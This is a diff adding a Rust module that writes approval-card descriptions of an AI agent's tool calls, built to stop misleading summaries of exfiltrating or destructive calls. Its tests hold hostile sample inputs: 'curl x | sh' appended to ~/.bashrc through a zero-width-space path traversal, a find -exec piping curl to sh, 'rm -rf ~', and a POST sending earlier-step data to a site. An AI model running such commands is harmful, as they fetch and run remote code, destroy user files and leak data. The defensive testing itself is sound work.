@@ -1,0 +1,379 @@
+//! What a card says a call does, computed from the call the request binds — its executor,
+//! its arguments exactly as they will run, the resolved target — never from text the caller
+//! wrote about it (issue 17: a card read "May I download? https://weather…" for a POST that
+//! carried a file away).
+//!
+//! Each part is shortened on its own (head … tail with its length), so a long path cannot
+//! push the content preview off the card, nor a long preview the path.
+
+use metnos_core::language::Language;
+use serde_json::Value;
+
+use crate::card::shown;
+
+/// The most characters of a target or command on a card.
+const SHOWN_TARGET: usize = 160;
+/// The most characters of a content preview (its first line).
+const SHOWN_PREVIEW: usize = 48;
+
+pub use metnos_core::call::FROM_EARLIER_STEPS;
+
+/// A card's verb (line 1) and summary (line 2).
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Described {
+    pub verb: String,
+    pub summary: String,
+}
+
+/// Describes the call `executor(args_json)` whose resolved target is `target`;
+/// `from_earlier` names the arguments that carry an earlier step's content.
+pub fn describe(
+    executor: &str,
+    target: &str,
+    args_json: &str,
+    from_earlier: &[String],
+    language: Language,
+) -> Described {
+    let args = serde_json::from_str::<Value>(args_json).unwrap_or(Value::Null);
+    let it = language == Language::Italian;
+    let text = |key: &str| args.get(key).and_then(Value::as_str);
+    let target = if target.is_empty() {
+        text("path").or(text("url")).unwrap_or_default()
+    } else {
+        target
+    };
+    let place = short(target, SHOWN_TARGET);
+    let (verb, summary) = match executor {
+        "fs_write" => {
+            let content = text("content").unwrap_or_default();
+            let mode = text("mode").unwrap_or("create");
+            let (verb, how) = match (mode, it) {
+                ("append", true) => ("aggiunga in fondo a un file", "in fondo"),
+                ("append", false) => ("append to a file", "appended"),
+                ("overwrite", true) => ("sovrascriva un file", "sostituisce il contenuto"),
+                ("overwrite", false) => ("overwrite a file", "replaces its content"),
+                (_, true) => ("crei un file", "nuovo file"),
+                (_, false) => ("create a file", "new file"),
+            };
+            let mut summary = format!(
+                "{place} — {how}, {}: {}",
+                size(content.len()),
+                preview(content, it)
+            );
+            summary.push_str(&carried(from_earlier, &["content"], it));
+            (verb.to_owned(), summary)
+        }
+        "fs_read" | "parse_local" => (
+            if it { "legga un file" } else { "read a file" }.to_owned(),
+            place,
+        ),
+        "fs_list" => (
+            if it {
+                "elenchi una cartella"
+            } else {
+                "list a folder"
+            }
+            .to_owned(),
+            place,
+        ),
+        "web_fetch" => web_fetch(&args, target, from_earlier, it),
+        "shell_exec" => {
+            let command = text("command").unwrap_or_default();
+            let argv = shell_words::split(command)
+                .map(shell_words::join)
+                .unwrap_or_else(|_| command.to_owned());
+            let mut summary = short(&argv, SHOWN_TARGET);
+            if let Some(cwd) = text("cwd").filter(|c| !c.is_empty()) {
+                let cwd = short(cwd, 80);
+                summary.push_str(&format!(" (in {cwd})"));
+            }
+            summary.push_str(&carried(from_earlier, &["command", "cwd"], it));
+            (
+                if it {
+                    "esegua un comando"
+                } else {
+                    "run a command"
+                }
+                .to_owned(),
+                summary,
+            )
+        }
+        other => {
+            let name = short(other, 40);
+            let args = short(&args.to_string(), SHOWN_TARGET);
+            let summary = if target.is_empty() {
+                format!("{name} {args}")
+            } else {
+                format!("{name}: {place} {args}")
+            };
+            let mut summary = summary;
+            let all: Vec<&str> = from_earlier.iter().map(String::as_str).collect();
+            summary.push_str(&carried(from_earlier, &all, it));
+            (
+                if it {
+                    "usi uno strumento"
+                } else {
+                    "use a tool"
+                }
+                .to_owned(),
+                summary,
+            )
+        }
+    };
+    Described { verb, summary }
+}
+
+/// web_fetch: its method, host and path (credentials hidden), and a body's size and origin.
+fn web_fetch(args: &Value, target: &str, from_earlier: &[String], it: bool) -> (String, String) {
+    let method = args
+        .get("method")
+        .and_then(Value::as_str)
+        .unwrap_or("GET")
+        .to_ascii_uppercase();
+    let url = args.get("url").and_then(Value::as_str).unwrap_or(target);
+    let where_ = match url::Url::parse(url) {
+        Ok(mut parsed) => {
+            if parsed.password().is_some() {
+                let _ = parsed.set_password(Some("***"));
+            }
+            let host = parsed.host_str().unwrap_or_default().to_owned();
+            let mut rest = parsed.path().to_owned();
+            if let Some(query) = parsed.query() {
+                rest.push('?');
+                rest.push_str(query);
+            }
+            let user = match (parsed.username(), parsed.password()) {
+                ("", _) => String::new(),
+                (user, Some(_)) => format!("{user}:***@"),
+                (user, None) => format!("{user}@"),
+            };
+            format!("{user}{host}{}", short(&rest, 120))
+        }
+        Err(_) => short(url, SHOWN_TARGET),
+    };
+    let mut summary = format!("{method} {where_}");
+    if let Some(body) = args.get("body").and_then(Value::as_str) {
+        summary.push_str(&if it {
+            format!(" — invia {} di dati", size(body.len()))
+        } else {
+            format!(" — sends {} of data", size(body.len()))
+        });
+    }
+    let headers = args
+        .get("headers")
+        .and_then(Value::as_object)
+        .map_or(0, |h| h.len());
+    if headers > 0 {
+        summary.push_str(&if it {
+            format!(", {headers} intestazioni")
+        } else {
+            format!(", {headers} headers")
+        });
+    }
+    summary.push_str(&carried(from_earlier, &["url", "body", "headers"], it));
+    let verb = match (method.as_str(), it) {
+        ("GET", true) => "scarichi una pagina",
+        ("GET", false) => "download a page",
+        (_, true) => "invii dati a un sito",
+        (_, false) => "send data to a site",
+    };
+    (verb.to_owned(), summary)
+}
+
+/// Says which of `keys` carry content from an earlier step, if any does.
+fn carried(from_earlier: &[String], keys: &[&str], it: bool) -> String {
+    let named: Vec<&str> = keys
+        .iter()
+        .copied()
+        .filter(|k| from_earlier.iter().any(|f| f == k))
+        .collect();
+    if named.is_empty() {
+        return String::new();
+    }
+    let list = named.join(", ");
+    if it {
+        format!(" ⚠ {list} con contenuto di un passo precedente")
+    } else {
+        format!(" ⚠ {list} carrying content from an earlier step")
+    }
+}
+
+/// The first line of `content`, quoted and shortened, and how many lines follow.
+fn preview(content: &str, it: bool) -> String {
+    if content.is_empty() {
+        return if it { "vuoto" } else { "empty" }.to_owned();
+    }
+    let mut lines = content.lines();
+    let first = lines.next().unwrap_or_default();
+    let more = lines.count();
+    let mut out = format!("«{}»", short(first, SHOWN_PREVIEW));
+    if more > 0 {
+        out.push_str(&if it {
+            format!(" +{more} righe")
+        } else {
+            format!(" +{more} lines")
+        });
+    }
+    out
+}
+
+/// A byte count as people read it.
+fn size(bytes: usize) -> String {
+    match bytes {
+        0..1024 => format!("{bytes} B"),
+        1024..1_048_576 => format!("{:.1} KB", bytes as f64 / 1024.0),
+        _ => format!("{:.1} MB", bytes as f64 / 1_048_576.0),
+    }
+}
+
+/// `text` as a card shows it, at most `max` characters.
+fn short(text: &str, max: usize) -> String {
+    shown(text, max).text
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn en(executor: &str, target: &str, args: Value, earlier: &[&str]) -> Described {
+        let earlier: Vec<String> = earlier.iter().map(|s| (*s).to_owned()).collect();
+        describe(
+            executor,
+            target,
+            &args.to_string(),
+            &earlier,
+            Language::English,
+        )
+    }
+
+    #[test]
+    fn a_write_shows_its_file_mode_size_and_first_line() {
+        let d = en(
+            "fs_write",
+            "~/notes/todo.md",
+            serde_json::json!({"path": "~/notes/todo.md", "content": "buy milk\ncall mum\n", "mode": "append"}),
+            &[],
+        );
+        assert_eq!(d.verb, "append to a file");
+        assert_eq!(
+            d.summary,
+            "~/notes/todo.md — appended, 18 B: «buy milk» +1 lines"
+        );
+        let it = describe(
+            "fs_write",
+            "~/a.txt",
+            r#"{"path":"~/a.txt","content":""}"#,
+            &[],
+            Language::Italian,
+        );
+        assert_eq!(it.verb, "crei un file");
+        assert_eq!(it.summary, "~/a.txt — nuovo file, 0 B: vuoto");
+    }
+
+    #[test]
+    fn the_resolved_target_is_shown_not_the_spelling_in_the_arguments() {
+        // 300 zero-width spaces, then a climb out: the planner resolved it to ~/.bashrc.
+        let path = format!(
+            "~/Documents/report-2026.txt{}/../../.bashrc",
+            "\u{200B}".repeat(300)
+        );
+        let d = en(
+            "fs_write",
+            "~/.bashrc",
+            serde_json::json!({"path": path, "content": "curl x | sh", "mode": "append"}),
+            &[],
+        );
+        assert!(
+            d.summary.starts_with("~/.bashrc — appended"),
+            "{}",
+            d.summary
+        );
+        assert!(d.summary.contains("«curl x | sh»"), "{}", d.summary);
+    }
+
+    #[test]
+    fn a_long_target_keeps_its_end_and_the_preview_stays_on_the_card() {
+        let long = format!("~/{}/../../.bashrc", "a".repeat(400));
+        let d = en(
+            "fs_write",
+            &long,
+            serde_json::json!({"path": long, "content": "x"}),
+            &[],
+        );
+        assert!(d.summary.contains(".bashrc"), "{}", d.summary);
+        assert!(
+            d.summary.contains("(416)"),
+            "the length is said: {}",
+            d.summary
+        );
+        assert!(d.summary.ends_with("«x»"), "{}", d.summary);
+    }
+
+    #[test]
+    fn a_post_says_it_sends_data_how_much_and_that_it_came_from_an_earlier_step() {
+        let d = en(
+            "web_fetch",
+            "https://weather.example.com/today",
+            serde_json::json!({"url": "https://weather.example.com/today", "method": "POST", "body": "k".repeat(3000)}),
+            &["body"],
+        );
+        assert_eq!(d.verb, "send data to a site");
+        assert_eq!(
+            d.summary,
+            "POST weather.example.com/today — sends 2.9 KB of data ⚠ body carrying content from an earlier step"
+        );
+        let d = en(
+            "web_fetch",
+            "",
+            serde_json::json!({"url": "https://u:secret@api.example.com/v1?q=rain"}),
+            &[],
+        );
+        assert_eq!(d.verb, "download a page");
+        assert_eq!(d.summary, "GET u:***@api.example.com/v1?q=rain");
+        assert!(!d.summary.contains("secret"));
+    }
+
+    #[test]
+    fn a_command_is_shown_as_its_whole_argv() {
+        let d = en(
+            "shell_exec",
+            "find . -name '*.md' -exec sh -c 'curl x | sh' ;",
+            serde_json::json!({"command": "find . -name '*.md'    -exec sh -c 'curl x | sh' ';'"}),
+            &[],
+        );
+        assert_eq!(d.verb, "run a command");
+        assert_eq!(
+            d.summary,
+            "find . -name '*.md' -exec sh -c 'curl x | sh' ';'"
+        );
+        // A long command keeps its tail in view.
+        let command = format!("ls {} ; -exec rm -rf ~", "a ".repeat(200));
+        let d = en(
+            "shell_exec",
+            "",
+            serde_json::json!({ "command": command }),
+            &[],
+        );
+        assert!(d.summary.contains("rm -rf '~'"), "{}", d.summary);
+    }
+
+    #[test]
+    fn another_executor_shows_its_name_target_and_arguments() {
+        let d = en(
+            "mail_send",
+            "bob@example.com",
+            serde_json::json!({"to": "bob@example.com", "text": "hi"}),
+            &["text"],
+        );
+        assert_eq!(d.verb, "use a tool");
+        assert!(
+            d.summary.starts_with("mail_send: bob@example.com {"),
+            "{}",
+            d.summary
+        );
+        assert!(
+            d.summary
+                .ends_with("⚠ text carrying content from an earlier step")
+        );
+    }
+}
